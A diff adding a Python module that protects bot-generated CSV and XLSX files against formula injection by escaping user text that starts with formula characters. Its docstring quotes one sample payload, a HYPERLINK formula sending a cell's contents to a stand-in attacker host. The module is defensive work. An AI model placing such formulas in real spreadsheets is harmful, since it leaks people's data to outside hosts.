@@ -1,0 +1,43 @@
+"""Cells of the spreadsheets the bot writes: text that people typed (names, reasons, notes,
+addresses, column names of an upload) is shown by Excel and LibreOffice but never evaluated.
+
+A text starting with `=`, `+`, `-`, `@`, tab or carriage return would be read as a formula
+(`=HYPERLINK("http://evil.example/?x="&A1,"Klik")` in a person's name). In a CSV such a text
+gets a leading apostrophe, which spreadsheet programs take as "this is text"; in an XLSX it is
+written as a string cell with the quote-prefix style, which shows it unchanged.
+
+    writer.writerow(csv_row(values))
+    sheet.append(xlsx_row(sheet, values))
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterable
+from typing import Any
+
+from openpyxl.cell import WriteOnlyCell
+from openpyxl.workbook.child import _WorkbookChild
+
+from bot.rules.households import looks_like_formula
+
+
+def is_formula_like(value: object) -> bool:
+    """True for a text a spreadsheet program would evaluate if written as it is."""
+    return isinstance(value, str) and looks_like_formula(value)
+
+
+def csv_row(values: Iterable[Any]) -> list[Any]:
+    """The values of a CSV row, formula-like texts behind an apostrophe."""
+    return [f"'{value}" if is_formula_like(value) else value for value in values]
+
+
+def xlsx_row(sheet: _WorkbookChild, values: Iterable[Any]) -> list[Any]:
+    """The values of a worksheet row for `sheet.append`, formula-like texts as quoted strings."""
+    return [_text_cell(sheet, value) if is_formula_like(value) else value for value in values]
+
+
+def _text_cell(sheet: _WorkbookChild, value: str) -> Any:
+    cell = WriteOnlyCell(sheet, value)
+    cell.data_type = "s"  # openpyxl made it a formula ("f") because of the "="
+    cell.quotePrefix = True
+    return cell
